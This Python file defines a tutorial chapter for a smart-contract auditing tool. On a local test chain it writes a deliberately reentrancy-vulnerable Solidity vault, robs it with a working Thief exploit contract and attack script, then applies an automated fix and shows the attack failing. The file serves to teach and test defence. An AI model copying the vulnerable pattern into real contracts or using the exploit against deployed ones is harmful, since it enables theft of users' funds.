"""Chapter *guard*: audit a vault, rob it on the embedded chain, apply the fix, fail to rob it."""

import contextlib
import json
import sys
from typing import Any

from diptych.app.tour.stage import Chapter, Stage, Step, StepFailed

_VAULT = """\
// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Vault {
    mapping(address => uint256) public held;

    function put() external payable {
        held[msg.sender] += msg.value;
    }

    function take() external {
        uint256 due = held[msg.sender];
        (bool paid, ) = msg.sender.call{value: due}("");
        require(paid, "not paid");
        held[msg.sender] = 0;
    }
}
"""
_THIEF = """\
// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface Bank {
    function put() external payable;
    function take() external;
}

contract Thief {
    Bank private immutable bank;

    constructor(Bank bank_) { bank = bank_; }

    function rob() external payable {
        bank.put{value: msg.value}();
        bank.take();
    }

    receive() external payable {
        if (address(bank).balance >= msg.value) bank.take();
    }
}
"""
# Runs as a program of its own, as the thief would: it knows the vault's source and nothing else.
_ATTACK = """\
import json
import sys
from contextlib import closing
from pathlib import Path

import diptych
from diptych.app.verbs.ledger import open_account, open_current_chain, open_outbox
from diptych.audit.compile import Settings, Toolchain, closure
from diptych.audit.source.load import load_program
from diptych.ledger.errors import Reverted

ETHER, ROUND = 10**18, sys.argv[1]


def compiled(toolchain, name):
    path = f"{name}.sol"
    found = toolchain.compile(closure(load_program([Path(path)]), path), Settings())
    return found.contracts[path, name]


with diptych.open() as book, Toolchain() as toolchain:
    vault, thief = (compiled(toolchain, name) for name in ("Vault", "Thief"))
    account, chain = open_account(book), open_current_chain(book)
    with closing(open_outbox(book, chain, account)) as outbox:
        def send(step, **fields):
            return outbox.send(f"tour/{ROUND}/{step}", **fields)

        bank = send("vault", to=None, data=bytes.fromhex(vault.creation)).contract_address
        code = bytes.fromhex(thief.creation) + bytes.fromhex(bank[2:]).rjust(32, bytes(1))
        robber = send("thief", to=None, data=code).contract_address
        send("savings", to=bank, data=bytes.fromhex(vault.selectors["put()"]), value_wei=9 * ETHER)
        refused = ""
        try:
            rob = bytes.fromhex(thief.selectors["rob()"])
            send("attack", to=robber, data=rob, value_wei=ETHER)
        except Reverted as error:
            refused = error.message
        left, loot = chain.balance_wei(bank), chain.balance_wei(robber)
print(json.dumps({"left": left // ETHER, "loot": loot // ETHER, "refused": refused}))
"""


def _write(stage: Stage) -> str:
    for name, text in (("Vault.sol", _VAULT), ("Thief.sol", _THIEF), ("attack.py", _ATTACK)):
        (stage.folder / name).write_text(text)
    stage.diptych("init")
    lines = len(_VAULT.splitlines())
    return f"Vault.sol, {lines} lines that compile without a warning"


def _audit(stage: Stage) -> str:
    found = stage.diptych("audit", "scan", "Vault.sol", expect=1)["findings"]
    faults = [each for each in found if each["rule"] == "reentrancy"]
    if not faults:
        raise StepFailed(f"the reentrancy is not found: {found}")
    stage.notes["fault"] = faults[0]["fingerprint"]
    fault, place = faults[0], faults[0]["location"]
    where = f"{place['contract']}.{place['function']}, line {place['line']}"
    return f"{fault['severity']} {fault['rule']} in {where}: {fault['message']}"


def _explain(stage: Stage) -> str:
    told = stage.diptych("audit", "explain", stage.notes["fault"], "Vault.sol")
    roles = ((each["role"].partition(",")[0], each["line"]) for each in told["steps"])
    steps = ", ".join(f"{role} in line {line}" for role, line in roles)
    if "write" not in steps:
        raise StepFailed(f"the explanation leaves the late write out: {told}")
    finding = told["finding"]
    reach = finding["exposure"]["reach"]
    return f"{steps}; open to {reach} through {told['entry']}: risk {finding['risk']:.0f} of 100"


def _attack(stage: Stage, round_: str) -> dict[str, Any]:
    told = stage.program([sys.executable, "attack.py", round_])
    found: dict[str, Any] = json.loads(told)
    return found


def _rob(stage: Stage) -> str:
    done = _attack(stage, "before")
    if (done["left"], done["loot"]) != (0, 10):
        raise StepFailed(f"the attack does not work: {done}")
    return f"on the embedded chain a thief puts in 1 ether and takes {done['loot']}; 0 are left"


def _fix(stage: Stage) -> str:
    done = stage.diptych("audit", "fix", "Vault.sol", "--rule", "reentrancy", "--apply")
    if done["fixed"] != 1 or not (stage.folder / "Vault.sol.bak").is_file():
        raise StepFailed(f"no fix was applied: {done['results']}")
    (result,) = done["results"]
    proof = result["fix"]["proof"]
    return (
        f"{result['fix']['name']}: same functions, events and storage; {proof['calls']} generated "
        f"calls agree on a node, {proof['succeeded']} of them got through"
    )


def _rob_again(stage: Stage) -> str:
    done = _attack(stage, "after")
    if done["left"] != 9 or not done["refused"]:
        raise StepFailed(f"the fixed vault is robbed: {done}")
    return f"the same attack is refused; all {done['left']} ether are where they were"


def _audit_again(stage: Stage) -> str:
    found = stage.diptych("audit", "scan", "Vault.sol")["findings"]
    if any(each["severity"] in ("high", "medium") for each in found):
        raise StepFailed(f"the fixed vault has grave findings: {found}")
    return "nothing grave is left in the fixed vault"


def _curtain(stage: Stage) -> None:
    if (stage.folder / ".diptych" / "chain").exists():
        with contextlib.suppress(StepFailed):
            stage.diptych("chain", "down")


CHAPTER = Chapter(
    name="guard",
    title="Guard: find the fault, prove the repair, watch the attack fail",
    steps=(
        Step("write a vault", _write),
        Step("audit", _audit),
        Step("explain", _explain),
        Step("rob it", _rob),
        Step("fix", _fix),
        Step("rob it again", _rob_again),
        Step("audit again", _audit_again),
    ),
    curtain=_curtain,
)
